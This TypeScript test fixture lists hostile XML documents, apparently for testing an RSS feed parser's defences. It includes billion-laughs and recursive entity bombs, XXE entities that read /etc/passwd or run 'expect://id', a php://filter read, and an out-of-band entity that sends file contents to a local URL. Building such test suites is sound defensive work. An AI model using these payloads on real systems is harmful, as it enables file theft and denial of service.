const feed = (inside: string, before = '') =>
  `<?xml version="1.0"?>${before}<rss version="2.0"><channel><title>x</title><item><title>${inside}</title><link>https://a.example/1</link></item></channel></rss>`;

/** Declares each entity as ten of the one before. */
const laughs = (levels: number, first = 'lol') =>
  [
    `<!ENTITY a0 "${first}">`,
    ...Array.from({ length: levels }, (_, i) => `<!ENTITY a${i + 1} "${`&a${i};`.repeat(10)}">`),
  ].join('');

/** Documents that eat memory or time, or that would read what is none of theirs. */
export const xml: readonly (readonly [what: string, text: string])[] = [
  ['a billion laughs', feed('&a9;', `<!DOCTYPE rss [${laughs(9)}]>`)],
  ['thirty levels of them', feed('&a30;', `<!DOCTYPE rss [${laughs(30)}]>`)],
  ['one large entity, many times', feed('&a;'.repeat(20_000), `<!DOCTYPE rss [<!ENTITY a "${'x'.repeat(50_000)}">]>`)],
  ['an entity of itself', feed('&a;', '<!DOCTYPE rss [<!ENTITY a "&a;">]>')],
  ['two of each other', feed('&a;', '<!DOCTYPE rss [<!ENTITY a "&b;"><!ENTITY b "&a;">]>')],
  ['a parameter entity of itself', feed('x', '<!DOCTYPE rss [<!ENTITY % a "%a;">%a;]>')],
  ['a file', feed('&a;', '<!DOCTYPE rss [<!ENTITY a SYSTEM "file:///etc/passwd">]>')],
  ['a file by its public name', feed('&a;', '<!DOCTYPE rss [<!ENTITY a PUBLIC "x" "file:///etc/passwd">]>')],
  ['a document type from elsewhere', feed('x', '<!DOCTYPE rss SYSTEM "http://127.0.0.1:1/x.dtd">')],
  ['a parameter entity from elsewhere', feed('x', '<!DOCTYPE rss [<!ENTITY % a SYSTEM "http://127.0.0.1:1/x"> %a;]>')],
  [
    'an inclusion',
    feed('<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>'),
  ],
  ['a style sheet', feed('x', '<?xml-stylesheet type="text/xsl" href="file:///etc/passwd"?>')],
  ['elements in elements', feed('<b>'.repeat(200_000))],
  ['elements in elements, closed', feed('<b>'.repeat(50_000) + '</b>'.repeat(50_000))],
  ['attributes without end', feed(`<b ${Array.from({ length: 50_000 }, (_, i) => `a${i}="x"`).join(' ')}/>`)],
  ['one attribute many times', feed(`<b ${'a="x" '.repeat(50_000)}/>`)],
  ['namespaces without end', feed(Array.from({ length: 5_000 }, (_, i) => `<b xmlns:n${i}="x">`).join(''))],
  ['a comment that does not end', feed('<!--'.repeat(100_000))],
  ['CDATA that does not end', feed('<![CDATA['.repeat(100_000))],
  ['tags that do not end', feed('<'.repeat(200_000))],
  ['references that do not end', feed('&#'.repeat(200_000))],
  ['a number beyond all characters', feed('&#99999999999999999999;&#xFFFFFFFFFF;')],
  ['a name that is very long', feed(`<${'n'.repeat(500_000)}/>`)],
  [
    'a file in an attribute',
    feed('x', '<!DOCTYPE rss [<!ENTITY a SYSTEM "file:///etc/passwd">]>').replace('<item>', '<item x="&a;">'),
  ],
  ['a program', feed('&a;', '<!DOCTYPE rss [<!ENTITY a SYSTEM "expect://id">]>')],
  [
    'a filter of PHP',
    feed('&a;', '<!DOCTYPE rss [<!ENTITY a SYSTEM "php://filter/read=convert.base64-encode/resource=/etc/passwd">]>'),
  ],
  [
    'a document type that stands on the machine',
    feed(
      'x',
      '<!DOCTYPE rss [<!ENTITY % a SYSTEM "file:///usr/share/xml/fontconfig/fonts.dtd"><!ENTITY % constant "aaa)><!ENTITY &#x25; f SYSTEM &#x22;file:///etc/passwd&#x22;><!ELEMENT b (c"> %a;]>',
    ),
  ],
  [
    'a parameter that is sent away',
    feed(
      'x',
      '<!DOCTYPE rss [<!ENTITY % f SYSTEM "file:///etc/passwd"><!ENTITY % e "<!ENTITY &#x25; s SYSTEM \'http://127.0.0.1:1/?%f;\'>">%e;%s;]>',
    ),
  ],
  [
    'a default of an attribute',
    feed('x', '<!DOCTYPE rss [<!ENTITY a SYSTEM "file:///etc/passwd"><!ATTLIST item x CDATA "&a;">]>'),
  ],
  ['laughs in an attribute', feed('x', `<!DOCTYPE rss [${laughs(9)}]>`).replace('<item>', '<item x="&a9;">')],
  ['laughs that stand below a second document type', feed('&a9;', `<!DOCTYPE rss><!DOCTYPE rss [${laughs(9)}]>`)],
  ['laughs behind a comment', feed('&a9;', `<!-- <!DOCTYPE rss> --><!DOCTYPE rss [${laughs(9)}]>`)],
  [
    'a place of its schema',
    feed('<b xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="x http://127.0.0.1:1/x.xsd"/>'),
  ],
  ['a document type that does not end', `<?xml version="1.0"?><!DOCTYPE rss [${'<!ENTITY a "'.repeat(50_000)}`],
  ['instructions without end', feed('<?a ?>'.repeat(50_000))],
  ['zeros of another encoding', `\u0000${feed('x').split('').join('\u0000')}`],
];
